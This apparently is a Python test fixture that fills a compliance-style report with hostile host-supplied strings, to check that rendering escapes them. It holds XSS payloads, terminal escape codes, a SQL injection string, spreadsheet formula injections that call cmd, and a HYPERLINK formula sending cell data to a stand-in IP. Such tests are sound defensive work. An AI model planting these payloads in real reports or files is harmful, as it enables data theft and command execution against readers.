"""A run on hosts that mean harm to whoever reads its report: their words are HTML, terminal escapes, SQL, formulas."""

from __future__ import annotations

from dataclasses import replace

from baseline.judge import Equal, judge
from baseline.model import Location, Outcome, Report, Undecided, Unloadable
from tests.reports.cases import GONE, MX1, RUN, fails, passes, unknown, warns

WORDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "</style></table><h1>All is well</h1>",
    "javascript:alert(3)",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mFAIL",
    "'; DROP TABLE runs; --",
    '=HYPERLINK("//198.51.100.9/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tfirst\r\nsecond\x00third",
    "\u202egpj.exe\u2066\u200b\ufeff",
    "{{ 7 * 7 }}{% raw %}",
    "| a | b |\n|---|---|\n[click](//198.51.100.9/) ![x](//198.51.100.9/y)",
    "\udcff\ud800",
    "`code` **bold** <b>",
    '# HELP baseline_findings fake\nbaseline_findings{host="mx9"} 0',
    "a|b;c'd\"e\\f",
    "x" * 5000,
)
"""What hosts say."""


def hostile() -> Report:
    """Every word in every place that a host has a say in."""
    found = []
    for number, word in enumerate(WORDS):
        judged = judge({word: Equal(word)}, {word: f"{word} found"}, {word: Location(word, 7)})
        one = replace(
            fails(),
            control=f"MEL-X-{number:02}",
            title=f"Hostile {number}",
            reason=word,
            keys=judged.keys,
            unseen=(word,),
            advice=f"mend {word}",
        )
        found += [one, replace(unknown(), control=f"MEL-Y-{number:02}", reason=word)]
        found += [replace(warns(), control=f"MEL-Z-{number:02}", waived=word, host=word, subject=word)]
    host = replace(
        MX1,
        name=f"mx1{WORDS[1]}",
        drifted=WORDS,
        unloadable=tuple(Unloadable(word, word, True, word) for word in WORDS),
        undecided=(Undecided(WORDS[0], "broken", WORDS[1], WORDS[2]),),
        untold=WORDS,
        note=WORDS[0],
    )
    gone = tuple(replace(GONE, name=f"gone{number}", error=word) for number, word in enumerate(WORDS))
    moved = tuple(replace(one, host=host.name) if one.host == "mx1" else one for one in found)
    there = replace(passes(host.name), outcome=Outcome.PASS)
    return Report(RUN, (host, *gone), (there, *moved), notes=WORDS)
